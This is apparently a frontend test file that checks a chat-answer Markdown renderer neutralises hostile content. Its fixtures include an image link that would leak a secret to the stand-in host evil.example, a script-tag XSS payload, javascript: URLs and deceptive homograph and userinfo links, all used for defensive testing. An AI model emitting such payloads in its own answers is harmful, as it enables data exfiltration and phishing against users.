// @vitest-environment happy-dom
/** An answer is shown as Markdown, and nothing a model writes runs, loads or leads astray. */
import { cleanup, fireEvent, render, screen, within } from "@testing-library/react";
import { afterEach, describe, expect, it, vi } from "vitest";
import { AnswerText } from "../../../src/web/conversation/answer-text.tsx";

afterEach(cleanup);

describe("what an answer can't do", () => {
  it("shows an image's words, and never fetches the image", () => {
    const { container } = render(
      <AnswerText text="![a chart](https://evil.example/?q=secret)" run={undefined} />,
    );
    expect(container.querySelector("img")).toBeNull();
    expect(container.innerHTML).not.toContain("evil.example");
    expect(container.textContent).toContain("a chart");
  });

  it("keeps raw HTML as the text it is", () => {
    const { container } = render(
      <AnswerText text={'<script>alert(1)</script> <b onclick="x">'} run={undefined} />,
    );
    expect(container.querySelector("script, b")).toBeNull();
  });

  it.each(["javascript:alert(1)", "data:text/html,x", "vbscript:x"])(
    "leads nowhere for %s",
    (url) => {
      render(<AnswerText text={`[click](${url})`} run={undefined} />);
      expect(screen.getByText("click").getAttribute("href") ?? "").toBe("");
    },
  );
});

describe("where an answer's links lead", () => {
  it.each([
    ["[your bank](https://evil.example/x)", "your bank (evil.example)"],
    ["[https://bank.example](https://evil.example)", "https://bank.example (evil.example)"],
    ["[bank](https://bank.example@evil.example/)", "bank (evil.example)"],
    ["[bank](https://b\u0430nk.example/)", "bank (xn--bnk-6cd.example)"],
    ["[us](mailto:us@example.com)", "us (us@example.com)"],
    ["https://example.com/", "https://example.com/"],
    ["[docs][1]\n\nMore.\n\n[1]: https://example.com", "docs (example.com)"],
  ])("is said before one leaves: %s", (text, name) => {
    render(<AnswerText text={text} run={undefined} />);
    expect(screen.getByRole("link").textContent).toBe(name);
  });

  it.each(["/settings", "#run", "//evil.example", "irc://evil.example", "xmpp:a@evil.example"])(
    "is nowhere but the web and mail: %s",
    (url) => {
      render(<AnswerText text={`[click](${url})`} run={undefined} />);
      expect(screen.queryByRole("link")).toBeNull();
      expect(screen.getByText("click")).toBeDefined();
    },
  );

  it("is not shown by half while it is being written", () => {
    const { container } = render(
      <AnswerText text="See [the docs](https://exam" run={undefined} isStreaming />,
    );
    expect(container.textContent).toBe("See the docs");
  });
});

describe("what an answer shows", () => {
  it("is whole in its last block while it is being written, and the others are not made anew", () => {
    const { container, rerender } = render(
      <AnswerText text={"One **bold**.\n\nTwo **bo"} run={undefined} isStreaming />,
    );
    const first = container.querySelector("p");
    expect(container.querySelectorAll("strong")).toHaveLength(2);
    rerender(<AnswerText text={"One **bold**.\n\nTwo **bold**, done."} run={undefined} />);
    expect(container.querySelector("p")).toBe(first);
    expect(container.textContent).toBe("One bold.Two bold, done.");
  });

  it("has code that is coloured once it stands, and copied as it is", async () => {
    const code = "```sql\nSELECT '<b>' FROM usage\n```";
    const { container } = render(<AnswerText text={code} run={undefined} />);
    await vi.waitFor(() => expect(container.querySelector(".hljs-keyword")).not.toBeNull());
    expect(screen.getByRole("group", { name: "Code: sql" }).textContent).toContain("'<b>'");
    fireEvent.click(screen.getByRole("button", { name: "Copy code" }));
    await screen.findByText("Copied");
    expect(await navigator.clipboard.readText()).toBe("SELECT '<b>' FROM usage\n");
  });

  it("has tasks that say whether they are done, and headings below the thread's own", () => {
    render(<AnswerText text={"# Plan\n\n- [x] first\n- [ ] then"} run={undefined} />);
    expect(screen.getByRole("heading", { level: 3, name: "Plan" })).toBeDefined();
    expect(screen.getByRole("img", { name: "done" })).toBeDefined();
    expect(screen.queryByRole("checkbox")).toBeNull();
  });

  it("has a table's rows and columns", () => {
    render(<AnswerText text={"| team | cost |\n| --- | --- |\n| data | $5 |"} run={undefined} />);
    const table = within(screen.getByRole("table"));
    expect(table.getByRole("columnheader", { name: "cost" })).toBeDefined();
    expect(table.getByRole("cell", { name: "$5" })).toBeDefined();
  });

  it("opens links beside the page, without telling where they were clicked", () => {
    render(<AnswerText text="[docs](https://example.com/docs)" run={undefined} />);
    const link = screen.getByRole("link", { name: "docs (example.com)" });
    expect(link.getAttribute("href")).toBe("https://example.com/docs");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
  });
});
